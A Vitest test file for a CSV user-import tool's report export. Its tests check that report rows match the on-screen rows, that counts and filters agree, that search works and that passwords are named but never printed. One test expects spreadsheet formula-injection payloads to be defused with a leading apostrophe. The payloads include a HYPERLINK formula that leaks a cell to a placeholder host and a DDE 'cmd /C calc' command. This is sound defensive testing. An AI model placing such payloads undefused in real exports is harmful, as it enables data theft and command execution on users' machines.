/** V6: the report says what the rows on the screen say, and no cell of it runs in a spreadsheet. */
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { actionText, alsoText, fieldText } from '../src/lib/i18n/field-text';
import { issueText } from '../src/lib/i18n/issue-text';
import { levelFlag } from '../src/lib/worker/summary';
import { rowsPage } from '../src/lib/worker/rows';
import { reportOf } from '../src/lib/worker/report';
import type { RowView } from '../src/lib/worker/protocol';
import { createDevice, fileOf, fixture, read, save, viewAll } from './device';

async function policyDraft() {
	const device = await createDevice();
	await save(device, await read(device, fixture('policy-base.csv')));
	const open = await read(device, fixture('policy-update.csv'), {
		uploadType: 'add_and_update',
		existingDetails: 'override',
		existingPassword: 'update',
		allowDeletes: 'yes'
	});
	return { device, open };
}

async function csvOf({ device, open }: Awaited<ReturnType<typeof policyDraft>>) {
	const bytes = new Uint8Array(await (await reportOf(device.context, open, 'csv')).arrayBuffer());
	const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
	const { data } = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
	return { text, header: data[0], rows: data.slice(1) };
}

/** What a reader of the file sees: the protecting apostrophe gone (F2). */
const shown = (cell: string | undefined) => cell?.replace(/^'/, '');

function changesText({ changes, also }: RowView): string {
	return [
		...changes.map(({ field, from, to }) =>
			field === 'password' ? fieldText(field) : `${fieldText(field)}: ${from} → ${to}`
		),
		...also.map(alsoText)
	].join('; ');
}

describe('the report', () => {
	test('CSV: every row as on the screen', async () => {
		const draft = await policyDraft();
		const { text, header, rows } = await csvOf(draft);
		expect(text.startsWith('\uFEFF')).toBe(true);
		expect(text.endsWith('\r\n')).toBe(true);
		expect(header).toEqual(['Line', 'Action', 'Username', 'Name', 'Changes', 'Messages']);
		const views = await viewAll(draft.device, draft.open);
		expect(rows.map((cells) => cells.map(shown))).toEqual(
			views.map((view) => [
				String(view.line),
				actionText(view.action),
				view.username,
				view.name,
				changesText(view),
				view.issues.map(issueText).join(' ')
			])
		);
	});

	test('JSON: the same with codes', async () => {
		const { device, open } = await policyDraft();
		const text = await (await reportOf(device.context, open, 'json')).text();
		const views = await viewAll(device, open);
		expect(JSON.parse(text)).toEqual(
			views.map(({ line, action, username, name, changes, also, issues }) => ({
				line,
				action,
				username,
				name,
				changes,
				also,
				messages: issues.map((found) => ({ ...found, text: issueText(found) }))
			}))
		);
	});

	test.each(['csv', 'json'] as const)('%s of more rows than are made at once', async (format) => {
		const device = await createDevice();
		const rows = Array.from({ length: 5002 }, (_, n) => `C-${n},u.${n},N`);
		const open = await read(device, fileOf(['Client ID,Username,First Name', ...rows]));
		const text = await (await reportOf(device.context, open, format)).text();
		const lines =
			format === 'json'
				? (JSON.parse(text) as { line: number }[]).map(({ line }) => line)
				: text
						.trimEnd()
						.split('\r\n')
						.slice(1)
						.map((row) => Number(row.split(',')[0]));
		expect(lines).toEqual(Array.from({ length: 5002 }, (_, n) => n + 2));
	});

	test('cells that a spreadsheet would run are defused', async () => {
		const device = await createDevice();
		const open = await read(device, fixture('formulas.csv'));
		const { rows } = await csvOf({ device, open });
		expect(rows.map((cells) => cells[3])).toEqual([
			"'=1+1 Adair",
			"'+Bo Bright",
			"'-Cas Cole",
			"'@Dee Drew",
			'Eli Ehr',
			"''Abd al-Noor Faris",
			`'=HYPERLINK("https://mirror.example/?"&A2,"open") Gant`,
			"'=cmd|' /C calc'!A0 Hume",
			'Ivy @SUM(A1:A9)',
			'Jo -2+3+Kay'
		]);
		expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
	});

	test('W4 a password to be changed, and nothing else, is told as the update that it is', async () => {
		const device = await createDevice();
		const rows = ['Client ID,Username,First Name', 'C-1,u.1,N'];
		await save(device, await read(device, fileOf(rows)));
		const open = await read(device, fileOf(rows), {
			uploadType: 'update_only',
			existingDetails: 'override',
			forcePasswordChange: 'all'
		});
		const { rows: told } = await csvOf({ device, open });
		expect(told.map(([, action, , , changes]) => [action, changes])).toEqual([
			['Update', 'Must change the password at the next sign-in']
		]);
	});

	test('W5 a password is named and not told', async () => {
		const draft = await policyDraft();
		const { text, rows } = await csvOf(draft);
		expect(rows.find(([line]) => line === '15')?.[4]).toBe(fieldText('password'));
		expect(text).not.toContain('Copper-finch');
	});
});

describe('counts and rows agree', () => {
	test.each(['policy-update.csv', 'damage.csv', 'ragged.csv', 'formulas.csv', 'vendor-16.csv'])(
		'V1 %s',
		async (name) => {
			const device = await createDevice();
			const open = await read(device, fixture(name));
			const views = await viewAll(device, open);
			const wide = new Set(open.summary.fileIssues.map(({ code }) => code));
			for (const level of ['error', 'warning', 'note'] as const) {
				const having = views.flatMap(({ row, issues }) =>
					issues.some(
						(found) => found.level === level && !(level === 'warning' && wide.has(found.code))
					)
						? [row]
						: []
				);
				const flagged = [...open.summary.levels].flatMap((flags, row) =>
					flags & levelFlag[level] ? [row] : []
				);
				expect(flagged, level).toEqual(having.filter((row) => flagged.includes(row)));
				if (level !== 'note') expect(having, level).toEqual(flagged);
			}
		}
	);

	test('V2 every problem group opens as many rows as it says', async () => {
		const { device, open } = await policyDraft();
		expect(open.summary.problems.length).toBeGreaterThan(8);
		for (const { id, rows, issue } of open.summary.problems) {
			const filter = { problem: id };
			const page = await rowsPage(device.context, open, { filter, from: 0, count: 100 });
			expect(page.total, issue.code).toBe(rows);
			for (const view of page.rows) {
				expect(view.issues.map(({ code }) => code)).toContain(issue.code);
			}
		}
	});

	test('V1 every count opens as many rows as it says', async () => {
		const { device, open } = await policyDraft();
		for (const [action, count] of Object.entries(open.summary.actions)) {
			const filter = { action: action as 'create' };
			const page = await rowsPage(device.context, open, { filter, from: 0, count: 100 });
			expect(page.total).toBe(count);
			expect(page.rows.every((view) => view.action === action)).toBe(true);
		}
	});

	test.each([
		['ROSA', ['rosa.tejada']],
		['DAMAGE.example', 18],
		['00000022', ['zoe.renard2']],
		['nobody like this', []]
	] as const)('V4 search for %s', async (search, expected) => {
		const device = await createDevice();
		const open = await read(device, fixture('damage.csv'));
		const { total, rows } = await rowsPage(device.context, open, {
			filter: { search },
			from: 0,
			count: 100
		});
		if (typeof expected === 'number') expect(total).toBe(expected);
		else expect(rows.map(({ username }) => username)).toEqual(expected);
	});

	test('V3 of two rows for one user, each shows what it adds', async () => {
		const device = await createDevice();
		const header = 'Client ID,Username,First Name,Title';
		await save(device, await read(device, fileOf([header, 'C-1,u.1,N,Mr'])));
		const rows = ['C-1,u.1,N,Dr', 'C-1,u.1,N,Prof'];
		const open = await read(device, fileOf([header, ...rows]), {
			uploadType: 'update_only',
			existingDetails: 'override'
		});
		const views = await viewAll(device, open);
		expect(views.map(({ changes }) => changes)).toEqual([
			[{ field: 'title', from: 'Mr', to: 'Dr' }],
			[{ field: 'title', from: 'Dr', to: 'Prof' }]
		]);
	});
});
